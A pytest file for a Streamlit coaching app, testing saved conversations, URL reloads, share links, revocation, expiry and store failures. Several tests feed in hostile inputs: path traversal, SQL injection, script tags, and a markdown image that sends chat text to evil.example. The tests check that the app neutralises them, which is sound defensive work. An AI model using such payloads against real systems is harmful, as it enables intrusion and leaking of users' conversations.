"""Persisted conversations, exports and share links in the app (AppTest, the real coach)."""

import sqlite3
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

import coach.session.intake as chat
from coach.records.access import MACHINE_OWNER
from coach.records.store import Store
from tests.test_app import APP, TIMEOUT, assert_no_exception, click, reply_keys, run_diagnostic, send, talk


def new_app(**query: str) -> AppTest:
    app = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    for key, value in query.items():
        app.query_params[key] = value
    return app.run()


def texts(app: AppTest) -> str:
    """Everything the page shows as Markdown, captions, titles and alerts."""
    parts = [*app.markdown, *app.caption, *app.title, *app.warning, *app.info, *app.error, *app.success]
    return "\n".join(str(part.value) for part in parts)


def test_every_turn_is_stored_and_the_url_names_the_conversation(env, store_url) -> None:
    app = send(new_app(), "Is posting three times a week a strategy?")
    assert_no_exception(app)
    conversation_id = talk(app).id
    assert app.query_params["c"] == [conversation_id] or app.query_params["c"] == conversation_id
    stored, revision = Store(store_url).load(conversation_id, viewer=MACHINE_OWNER)
    assert [turn.role for turn in stored.turns] == ["user", "coach"]
    assert stored.turns[1].sources and revision >= 1


def test_a_reload_restores_the_conversation_from_the_url(env) -> None:
    first = send(new_app(), "Is posting three times a week a strategy?")
    conversation_id = talk(first).id
    reloaded = new_app(c=conversation_id)
    assert_no_exception(reloaded)
    assert talk(reloaded).id == conversation_id
    assert [turn.text for turn in talk(reloaded).turns] == [turn.text for turn in talk(first).turns]
    assert "Is posting three times a week a strategy?" in texts(reloaded)


@pytest.mark.parametrize("conversation_id", ["0" * 32, "not-an-id", "../../etc/passwd", "' OR 1=1"])
def test_an_unknown_conversation_in_the_url_starts_a_new_one_with_a_note(env, conversation_id) -> None:
    app = new_app(c=conversation_id)
    assert_no_exception(app)
    assert talk(app).turns == [] and talk(app).id != conversation_id
    if conversation_id == "0" * 32:
        assert "not stored" in texts(app)


def test_the_diagnostic_state_survives_a_reload(env) -> None:
    app = click(new_app(), "start")
    click(app, reply_keys(app)[0])
    asked = talk(app).dialogue.asked
    reloaded = new_app(c=talk(app).id)
    assert talk(reloaded).in_diagnostic and talk(reloaded).dialogue.asked == asked
    assert any(button.key and button.key.startswith("reply-") for button in reloaded.button)


def test_recent_conversations_can_be_reopened_and_deleted(env, store_url) -> None:
    app = send(new_app(), "Who should be responsible for social media?")
    first_id = talk(app).id
    app = click(app, "new")
    app = send(app, "Does every company need to reach stage 3?")
    second_id = talk(app).id
    assert first_id != second_id
    app = click(app, f"open-{first_id}")
    assert talk(app).id == first_id and talk(app).turns[0].text.startswith("Who should")
    app = click(app, f"delete-{first_id}")
    assert_no_exception(app)
    assert Store(store_url).load(first_id, viewer=MACHINE_OWNER) is None
    assert talk(app).id not in (first_id, second_id) and talk(app).turns == []
    assert "deleted" in texts(app)


def test_downloads_are_offered_once_there_is_a_conversation(env) -> None:
    app = new_app()
    assert not [element for element in app.get("download_button")]
    app = send(app, "Is posting three times a week a strategy?")
    keys = {element.proto.id for element in app.get("download_button")}
    assert len(keys) == 3


def test_a_share_link_opens_read_only_without_the_coach_and_dies_when_revoked(
    env, store_url, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = click(new_app(), "start")
    run_diagnostic(app)
    stage = talk(app).summary.assessment.stage
    app = click(app, "share")
    assert_no_exception(app)
    token = app.session_state["links"][-1]
    assert token in "\n".join(str(code.value) for code in app.code)

    def no_coach():
        raise AssertionError("the shared view must not start the coach")

    building = chat.build_coach
    st.cache_resource.clear()
    monkeypatch.setattr(chat, "build_coach", no_coach)
    shared = new_app(share=token)
    assert_no_exception(shared)
    assert not shared.chat_input and not shared.button
    assert f"Stage {stage}" in texts(shared) or f"Stufe: {stage}" in texts(shared) or f": {stage} –" in texts(shared)
    assert len(shared.get("download_button")) == 3
    monkeypatch.setattr(chat, "build_coach", building)

    link_id = next(link.id for link in Store(store_url).shares_of(talk(app).id, viewer=MACHINE_OWNER))
    app = click(app, f"revoke-{link_id[:16]}")
    assert_no_exception(app)
    assert Store(store_url).open_share(token) is None
    dead = new_app(share=token)
    assert "This link is not valid" in texts(dead) and not dead.chat_input


@pytest.mark.parametrize("token", ["", "x", "x" * 43, "<script>", "%00", "a" * 500])
def test_any_bad_token_shows_the_same_not_valid_page(env, token) -> None:
    app = new_app(share=token)
    assert_no_exception(app)
    assert "This link is not valid" in texts(app) and not app.chat_input


def test_a_read_only_store_is_said_and_the_conversation_goes_on(
    app_data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "conversations.db"
    Store(f"sqlite:///{path}").recent(viewer=MACHINE_OWNER)  # creates the schema
    monkeypatch.setenv("COACH_DATA_DIR", str(app_data_dir))
    monkeypatch.setenv("COACH_DATABASE_URL", f"sqlite:///file:{path}?mode=ro&uri=true")
    app = send(new_app(), "Is posting three times a week a strategy?")
    assert_no_exception(app)
    assert "cannot be saved right now" in texts(app)
    assert [turn.role for turn in talk(app).turns] == ["user", "coach"]
    app = send(app, "Who should be responsible for social media?")
    assert len(talk(app).turns) == 4 and app.session_state["keeper"].pending


def test_a_locked_store_saves_everything_once_it_is_free(env, store_url, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("coach.records.store.LOCK_TIMEOUT", 0.2)
    app = send(new_app(), "Is posting three times a week a strategy?")
    conversation_id = talk(app).id
    blocker = sqlite3.connect(store_url.removeprefix("sqlite:///"), isolation_level=None)
    blocker.execute("BEGIN EXCLUSIVE")
    try:
        app = send(app, "Who should be responsible for social media?")
        assert "cannot be saved right now" in texts(app)
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()
    app = send(app, "Does every company need to reach stage 3?")
    stored, _ = Store(store_url).load(conversation_id, viewer=MACHINE_OWNER)
    assert len(stored.turns) == 6


def test_markup_in_a_shared_transcript_stays_inert(env) -> None:
    hostile = "Strategy? <script>alert(1)</script> ![leak](https://evil.example/?q=chat) <img src=x onerror=alert(2)>"
    app = send(new_app(), hostile)
    app = click(app, "share")
    shared = new_app(share=app.session_state["links"][-1])
    assert_no_exception(shared)
    shown = "\n".join(str(part.value) for part in shared.markdown)
    assert "&lt;script&gt;" in shown and "<script>" not in shown and "<img" not in shown
    assert "](https://evil.example" not in shown and "!\\[leak\\]" in shown


def test_a_link_can_be_made_to_expire(env, store_url) -> None:
    app = send(new_app(), "Is posting three times a week a strategy?")
    app.selectbox(key="link_days").set_value(7).run()
    app = click(app, "share")
    (link,) = Store(store_url).shares_of(talk(app).id, viewer=MACHINE_OWNER)
    assert link.expires_at is not None and link.active()
    assert "expires" in texts(app)


def test_after_a_reload_a_link_says_why_its_address_is_not_shown_again(env) -> None:
    app = click(send(new_app(), "Is posting three times a week a strategy?"), "share")
    token = app.session_state["links"][-1]
    reloaded = new_app(c=talk(app).id)
    assert_no_exception(reloaded)
    captions = "\n".join(str(caption.value) for caption in reloaded.caption)
    assert "shown only once" in captions
    assert token not in "\n".join(str(code.value) for code in reloaded.code)


CORRECTIONS = {
    "de": (
        "Ein eigenes Social-Media-Budget haben wir nicht.",
        "Eigentlich haben wir doch ein Budget: rund 40.000 Euro im Jahr für Anzeigen und Tools.",
        "(später korrigiert: Ressourcen)",
    ),
    "en": (
        "There is no budget for social media.",
        "Actually, we do have a budget of 20,000 euros a year for ads and tools.",
        "(corrected later: Resources)",
    ),
}


def marked(app: AppTest, note: str) -> list[str]:
    """The user messages shown with `note` under them."""
    return [
        "\n".join(part.value for part in message.markdown)
        for message in app.chat_message
        if message.name == "user" and any(note in str(caption.value) for caption in message.caption)
    ]


@pytest.mark.parametrize("lang", ["de", "en"])
def test_a_correction_is_marked_on_the_message_it_took_back_live_after_a_reload_and_when_shared(env, lang) -> None:
    statement, correction, note = CORRECTIONS[lang]
    app = send(new_app(), "Diagnose starten") if lang == "de" else click(new_app(), "start")
    app = send(send(app, statement), correction)
    assert_no_exception(app)
    assert marked(app, note) == [statement]  # the live chat, drawn again after the reply
    reloaded = new_app(c=talk(app).id)
    assert_no_exception(reloaded)
    assert marked(reloaded, note) == [statement]
    app = click(app, "share")
    shared = new_app(share=app.session_state["links"][-1])
    assert_no_exception(shared)
    assert marked(shared, note) == [statement]
